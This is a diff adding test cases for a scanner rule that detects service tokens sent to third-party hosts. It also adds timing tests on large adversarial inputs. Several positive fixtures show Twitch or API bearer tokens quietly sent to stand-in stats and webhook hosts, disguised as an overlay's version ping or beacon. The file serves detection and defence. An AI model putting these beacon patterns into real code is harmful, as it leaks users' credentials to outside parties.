@@ -619,3 +619,93 @@ describe('SG-EXFIL-044 on adversarial input', () => {
     }
   });
 });
+
+const OVERLAY_HEAD = [
+  'const q = new URLSearchParams(location.search);',
+  'const token = q.get("token");',
+  'const clientId = q.get("client_id");',
+  'async function subscribe(id) {',
+  '  await fetch("https://api.twitch.tv/helix/eventsub/subscriptions", {',
+  '    method: "POST",',
+  '    headers: { Authorization: `Bearer ${token}`, "Client-Id": clientId },',
+  '    body: JSON.stringify({ id }),',
+  '  });',
+  '}',
+  '',
+].join('\n');
+
+describeRuleCases('exfiltration (a service token sent to another host)', [
+  {
+    // An OBS overlay's "version ping": an image beacon carrying the Twitch token to a stats host.
+    id: 'SG-EXFIL-045',
+    file: 'assets/overlay.js',
+    positive:
+      OVERLAY_HEAD +
+      'const px = new Image();\npx.src = "https://stats.overlay-kit.example/v.gif?v=2.3.1" +\n  "&c=" + encodeURIComponent(clientId) + "&k=" + encodeURIComponent(token);\n',
+    // The same ping without the token, and the token revoked at its own service.
+    negative:
+      OVERLAY_HEAD +
+      'new Image().src = "https://stats.overlay-kit.example/v.gif?v=2.3.1&c=" + encodeURIComponent(clientId);\nfetch("https://id.twitch.tv/oauth2/revoke?client_id=" + clientId + "&token=" + token, { method: "POST" });\n',
+  },
+  {
+    // A query string built with URLSearchParams and beaconed, in an HTML page's script.
+    id: 'SG-EXFIL-045',
+    file: 'assets/overlay.html',
+    positive: `<html><body><script>\n${OVERLAY_HEAD}const p = new URLSearchParams({ v: "1", k: token });\nnavigator.sendBeacon("https://t.alerts-cdn.example/ping?" + p);\n</script></body></html>\n`,
+    negative: `<html><body><script>\n${OVERLAY_HEAD}const p = new URLSearchParams({ v: "1", c: clientId });\nnavigator.sendBeacon("https://t.alerts-cdn.example/ping?" + p);\n</script></body></html>\n`,
+  },
+  {
+    // A URL object given the token later, and a chat socket's IRC password sent on to a web hook.
+    id: 'SG-EXFIL-045',
+    file: 'scripts/bot.js',
+    positive:
+      'const ws = new WebSocket("wss://irc-ws.chat.twitch.tv:443");\nws.onopen = () => ws.send("PASS oauth:" + token);\nconst u = new URL("https://hooks.streamtools.example/v1");\nu.searchParams.set("k", token);\nfetch(u);\n',
+    // Google's token checked at Google's own token-info host.
+    negative:
+      'const r = await fetch("https://www.googleapis.com/drive/v3/files", { headers: { Authorization: "Bearer " + accessToken } });\nawait fetch("https://oauth2.googleapis.com/tokeninfo?access_token=" + accessToken);\nawait fetch("https://accounts.google.com/o/oauth2/revoke?token=" + accessToken);\n',
+  },
+  {
+    // In a documented snippet; a request body sent with the header is not the credential.
+    id: 'SG-EXFIL-045',
+    positive: js(
+      'fetch("https://api.example-crm.com/v1/me", { headers: { Authorization: "Bearer " + apiToken } });\nconst ping = "https://beacon.metrics-hub.example/p?t=" + apiToken;\nnew Image().src = ping;\n',
+    ),
+    negative: js(
+      'fetch("https://api.example-crm.com/v1", { headers: { Authorization: "Bearer " + key }, body: JSON.stringify(data) });\nnew Image().src = "https://stats.metrics-hub.example/p?d=" + data;\n',
+    ),
+  },
+]);
+
+describe('adversarial token beacons', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['auth headers', 'Authorization: "Bearer " + a.b.c,\n'.repeat(MiB / 33)],
+    [
+      'requests and auth',
+      'fetch("https://a.example/x", { headers: { Authorization: t } });\n'.repeat(MiB / 64),
+    ],
+    [
+      'addresses with queries',
+      'fetch("https://a.example/x", { headers: { Authorization: t } });\n' +
+        'new Image().src = "https://b.example/p?k=" + t +\n'.repeat(MiB / 47),
+    ],
+    [
+      'addresses never sent',
+      'fetch("https://a.example/x", { headers: { Authorization: t } });\n' +
+        'const u = "https://b.example/p?k=" + t + a.b.c.d +\n'.repeat(MiB / 48),
+    ],
+    ['long paths', 'Authorization: ' + 'a.'.repeat(MiB / 2)],
+    ['open templates', 'fetch("https://a.example/"); Authorization: `Bearer ' + '${x'.repeat(MiB / 3)],
+    [
+      'carriers',
+      'fetch("https://a.example/x", { headers: { Authorization: t } });\n' +
+        'const t = t;\n'.repeat(MiB / 13),
+    ],
+    ['continued lines', 'Authorization: t\n"https://b.example/?" +' + ' \n'.repeat(MiB / 2)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'assets/overlay.js');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
